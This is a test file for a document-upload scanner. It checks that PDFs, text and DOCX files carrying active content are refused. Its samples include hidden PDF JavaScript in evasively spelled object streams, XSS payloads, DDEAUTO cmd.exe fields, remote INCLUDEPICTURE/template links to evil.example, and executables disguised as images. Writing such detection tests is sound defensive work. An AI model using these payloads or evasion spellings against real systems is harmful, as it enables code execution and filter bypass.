import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import test, { after } from 'node:test';
import { deflateSync } from 'node:zlib';
import { createDocuments } from '../../../api/providers/documents/documents.ts';
import { docx, type Part } from './archives.ts';

const folder = await mkdtemp(join(tmpdir(), 'hidden-test-'));
after(() => rm(folder, { recursive: true, force: true }));
const documents = createDocuments();
let files = 0;

/** @returns the code of the refusal; `fine` if the content is accepted */
async function recognizeOrRefuse(name: string, content: Buffer | string): Promise<string> {
  files += 1;
  const path = join(folder, String(files));
  await writeFile(path, content);
  return documents.recognize({ path, name, bytes: Buffer.byteLength(content) }).then(
    () => 'fine',
    (error: { code?: string }) => error.code ?? String(error),
  );
}

const script = '5 0 << /S /JavaScript /JS (app.alert(1)) >>';
/** Makes a PDF whose object streams are written so that a simple reader overlooks them. */
const pdf = (content: string, { type = '/Type /ObjStm', more = '', before = '', word = 'stream\n', times = 1 } = {}) => {
  const bytes = deflateSync(content);
  const object = Buffer.concat([
    Buffer.from(`5 0 obj << ${type} /N 1 /First 4 /Filter /FlateDecode /Length ${bytes.length} ${more}>>${before} ${word}`),
    bytes,
    Buffer.from('\nendstream endobj\n'),
  ]);
  return Buffer.concat([
    Buffer.from('%PDF-1.7\n'),
    ...Array.from({ length: times }, () => object),
    Buffer.from('trailer << /Root 5 0 R >>\n%%EOF\n'),
  ]);
};

test('knowledge.upload SX44: compressed objects of a PDF are found in every spelling', async () => {
  const hidden: [string, Parameters<typeof pdf>[1]][] = [
    ['as usual', {}],
    ['many blanks', { more: ' '.repeat(5_000) }],
    ['more blanks than are looked at', { more: ' '.repeat(50_000) }],
    ['a long comment', { more: `%${'x'.repeat(5_000)}\n` }],
    ['a long value', { more: `/PieceInfo (${'x'.repeat(5_000)}) ` }],
    ['a comment before the stream', { before: `%${'x'.repeat(3_000)}\n` }],
    ['a type that stands elsewhere', { type: '/Type 9 0 R' }],
    ['no type', { type: '' }],
    ['the word for an object in a value', { type: '', more: '/X (1 0 obj << ) ' }],
    ['the word for a stream in a value', { more: '/X (stream\n) ' }],
    ['another line end', { word: 'stream\r' }],
    ['a blank before the line end', { word: 'stream \n' }],
  ];
  for (const [what, how] of hidden) {
    const isTold = ['knowledge.active_refused', 'knowledge.pdf_unreadable'].includes(await recognizeOrRefuse('a.pdf', pdf(script, how)));
    assert.ok(isTold, what);
    if (!/^more|stream in/.test(what)) assert.equal(await recognizeOrRefuse('a.pdf', pdf('5 0 << /Type /Page >>', how)), 'fine', what);
  }
});

test('knowledge.upload SX44: streams of drawings are accepted wherever the boundary between two reads falls', async () => {
  const stream = (content: string | Buffer, said = '') => {
    const bytes = deflateSync(content);
    return Buffer.concat([
      Buffer.from(`6 0 obj << /Filter /FlateDecode ${said}>> stream\r\n`),
      bytes,
      Buffer.from('\nendstream\nendobj\n'),
    ]);
  };
  const page = stream('1 0 0 1 72 720 cm BT (The /JavaScript course) Tj ET');
  const picture = stream(Buffer.alloc(3_000_000), '/Subtype /Image ');
  for (let shift = 0; shift < 12; shift += 1) {
    const objects = pdf('5 0 << /Type /Page >>')
      .toString('latin1')
      .replace('%PDF-1.7\n', '')
      .replace(/trailer[\s\S]*/, '');
    const cut = objects.indexOf('endstream') + shift;
    const content = Buffer.concat([
      Buffer.from('%PDF-1.7\n'),
      Buffer.from(`%${'x'.repeat(64 * 1024 - 4096 - cut - 11)}\n`),
      Buffer.from(objects, 'latin1'),
      Buffer.alloc(64 * 1024, ' '),
      page,
      picture,
      Buffer.from('trailer << /Root 1 0 R >>\n%%EOF\n'),
    ]);
    assert.equal(await recognizeOrRefuse('a.pdf', content), 'fine', String(shift));
  }
});

test('knowledge.upload SX44: a PDF with any number of streams is scanned in bounded time', async () => {
  const many = pdf('0'.repeat(9_000), { times: 9_990 });
  const before = process.cpuUsage();
  assert.equal(await recognizeOrRefuse('a.pdf', many), 'knowledge.pdf_unreadable');
  const { user, system } = process.cpuUsage(before);
  assert.ok(user + system < 3_000_000, `${user + system} µs`);
});

test('knowledge.upload SX44: a text is read as a browser would read it', async () => {
  const pages = [
    '<img title="<" src=x onerror=alert(1)>',
    "<img title='>' src=x onerror=alert(1)>",
    '<img src=x onerror=`alert(1)`>',
    '<img src=x onerror=(alert)(1)>',
    `<img alt="${'x'.repeat(1_100)}" src=x onerror=alert(1)>`,
    `<img alt="${'x'.repeat(20_000)}" src=x onerror=alert(1)>`,
    '<img src=x onerror\n\n=\n\nalert(1)>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    '<script\n>alert(1)',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '<svg><script href=//evil.example />',
    '<svg><script xlink:href="data:,alert(1)" />',
    `<iframe ${'y '.repeat(2_000)} src=//evil.example>`,
  ];
  for (const page of pages)
    assert.equal(await recognizeOrRefuse('a.txt', `hello ${page} and more`), 'knowledge.active_refused', page.slice(0, 60));
  const fine = [
    'Put the <script> tag (the one with a name) before </body>, and a <meta> tag at the top.',
    'if a <b and "on" is = to off, then onwards',
    '2 + ADw and + AD4, <p title="1 < 2">x</p>',
  ];
  for (const text of fine) assert.equal(await recognizeOrRefuse('a.txt', text), 'fine', text);
});

test('knowledge.upload SX44: a text of quotes and tags is scanned in linear time', async () => {
  for (const piece of ['<a "', `<a b='`, '<a b="', '<a/<a/', '<a on= ', '<script>a', '<a \t']) {
    const before = process.cpuUsage();
    await recognizeOrRefuse('a.txt', `words ${piece.repeat(Math.floor((2 * 1024 * 1024) / piece.length))}`);
    const { user, system } = process.cpuUsage(before);
    assert.ok(user + system < 2_000_000, `${piece} took ${user + system} µs`);
  }
});

const field = (...instructions: string[]): Part => ({
  name: 'word/header1.xml',
  content: `<w:hdr>${instructions.map((one) => `<w:r><w:instrText xml:space="preserve">${one}</w:instrText></w:r>`).join('')}</w:hdr>`,
});

test('knowledge.upload SX44: a document whose fields run or load something is refused, and other fields are accepted', async () => {
  const refused: [string, Part][] = [
    ['a program', field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')],
    ['in pieces', field(' DD', 'EAUTO ', 'c:\\\\cmd.exe')],
    ['in a simple field', { name: 'word/header1.xml', content: '<w:hdr><w:fldSimple w:instr=" DDE excel a b "/></w:hdr>' }],
    ['a picture', field('INCLUDEPICTURE "http://evil.example/a.png" \\d')],
    ['a picture, as XML writes quotes', field('INCLUDEPICTURE &quot;https://evil.example/a.png&quot;')],
    ['a text on another machine', field('INCLUDETEXT "\\\\evil\\share\\a.docx"')],
    ['letters as numbers', field('QUOTE 68 68 69 65 85 84 79')],
  ];
  for (const [what, part] of refused) assert.equal(await recognizeOrRefuse('a.docx', docx([part])), 'knowledge.references_refused', what);
  const fine: [string, Part][] = [
    ['a page number', field(' PAGE ', ' \\* MERGEFORMAT ')],
    ['a link', field('HYPERLINK "https://example.com"')],
    ['words about it', { name: 'word/header1.xml', content: '<w:hdr><w:t>DDEAUTO and INCLUDEPICTURE "http://a.example"</w:t></w:hdr>' }],
  ];
  for (const [what, part] of fine) assert.equal(await recognizeOrRefuse('a.docx', docx([part])), 'fine', what);
});

test('knowledge.upload SX44: a program named as a picture and a part with two names are refused', async () => {
  const cases: [string, Part][] = [
    ['a program of Windows', { name: 'word/media/a.png', content: 'MZ\x90 program' }],
    ['one of Linux', { name: 'word/media/a.png', content: '\x7fELF program' }],
    ['a script', { name: 'word/media/a.png', content: '#!/bin/sh' }],
    ['two names', { name: 'word/a.xml', content: '<a/>', localName: 'word/vba.bin' }],
  ];
  for (const [what, part] of cases) assert.equal(await recognizeOrRefuse('a.docx', docx([part])), 'knowledge.archive_refused', what);
});

const part = (content: string): Part => ({ name: 'word/header1.xml', content });
const program = 'DDEAUTO c:\\\\cmd.exe';

test('knowledge.upload SX44: a field of a document is read as an XML parser reads it, in any spelling', async () => {
  const many = Array.from({ length: 30_000 }, (_, at) => `<w:r w:rsid="${(at * 7919).toString(16)}"/>`).join('');
  const written: [string, string][] = [
    ['behind blanks', `<w:instrText>${' '.repeat(5_000)}${program}</w:instrText>`],
    ['marked as text', `<w:instrText><![CDATA[${program}]]></w:instrText>`],
    ['with a comment inside', '<w:instrText>DD<!-- x -->EAUTO c:</w:instrText>'],
    ['with an instruction inside', '<w:instrText>DD<?x y?>EAUTO c:</w:instrText>'],
    ['under a long prefix', `<${'p'.repeat(40)}:instrText>${program}</${'p'.repeat(40)}:instrText>`],
    ['under a prefix of other letters', `<é:instrText>${program}</é:instrText>`],
    ['in a long tag', `<w:instrText x="${'y'.repeat(5_000)}">${program}</w:instrText>`],
    ['behind a sign in quotes', `<w:instrText x="a>b">${program}</w:instrText>`],
    ['in a long value', `<w:fldSimple w:instr="${' '.repeat(5_000)}${program}"/>`],
    ['in pieces far apart', `<w:instrText>DDE</w:instrText>${many}<w:instrText>AUTO c:</w:instrText>`],
    ['a picture behind a switch', '<w:instrText>INCLUDEPICTURE \\d "https://evil.example/a.png"</w:instrText>'],
  ];
  for (const [what, content] of written)
    assert.equal(await recognizeOrRefuse('a.docx', docx([part(`<w:hdr>${content}</w:hdr>`)])), 'knowledge.references_refused', what);
  const picture: Part = {
    name: 'word/media/a.png',
    content: `<?xml version="1.0"?><w:document><w:instrText>${program}</w:instrText></w:document>`,
  };
  assert.equal(await recognizeOrRefuse('a.docx', docx([picture])), 'knowledge.references_refused', 'in a part that is called a picture');
  for (const content of [`<w:t>${program}</w:t>`, `<!-- <w:instrText>${program}</w:instrText> -->`, `<w:hdr>${many}</w:hdr>`])
    assert.equal(await recognizeOrRefuse('a.docx', docx([part(content)])), 'fine', content.slice(0, 60));
  assert.equal(
    await recognizeOrRefuse('a.docx', docx([part(`<w:hdr x="${'y'.repeat(400_000)}`)])),
    'knowledge.archive_refused',
    'a tag without an end',
  );
});

test('knowledge.upload SX44: nothing next to a relationship of a document hides its target', async () => {
  const type = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/';
  const chunk = `Id="a" Type="${type}aFChunk" Target="x.html"`;
  const away = `Id="a" Type="${type}attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"`;
  for (const content of [
    `<Relationship ${chunk}/><!-- Type="x" -->`,
    `<Relationship ${away}/><!-- TargetMode="Internal" -->`,
    `<Relationship ${chunk} type="x"/>`,
    `<Relationship ${chunk} x:Type="x"/>`,
    `<é:Relationship ${chunk}/>`,
    `<Relationship x=">" ${away}/>`,
  ]) {
    const relations: Part = { name: 'word/_rels/document.xml.rels', content: `<Relationships>${content}</Relationships>` };
    assert.equal(await recognizeOrRefuse('a.docx', docx([relations])), 'knowledge.references_refused', content);
  }
  const link = `<Relationship Id="a" Type="${type}hyperlink" Target="https://example.com" TargetMode="External"/>`;
  const fine: Part = { name: 'word/_rels/document.xml.rels', content: `<Relationships>${link}<!-- ${away} --></Relationships>` };
  assert.equal(await recognizeOrRefuse('a.docx', docx([fine])), 'fine');
});

test('knowledge.upload SX44: a PDF with a script in a form or a movie is refused', async () => {
  for (const said of ['/AcroForm << /XFA 5 0 R >>', '/OpenAction << /S /Rendition /OP 0 /JS (app.alert(1)) >>', '/S /Re#6edition'])
    assert.equal(await recognizeOrRefuse('a.pdf', pdf(`5 0 << ${said} >>`)), 'knowledge.active_refused', said);
});

test('knowledge.upload SX44: the XML of a document is read in linear time', async () => {
  for (const piece of ['<a ', '<a b="', "<a '", '<!-- ', '<![CDATA[', '&#', 'a=', '<a/>', '<w:instrText>a ']) {
    const before = process.cpuUsage();
    await recognizeOrRefuse('a.docx', docx([{ ...part(piece.repeat(Math.floor((8 * 1024 * 1024) / piece.length))), method: 8 }]));
    const { user, system } = process.cpuUsage(before);
    assert.ok(user + system < 6_000_000, `${piece} took ${user + system} µs`);
  }
});
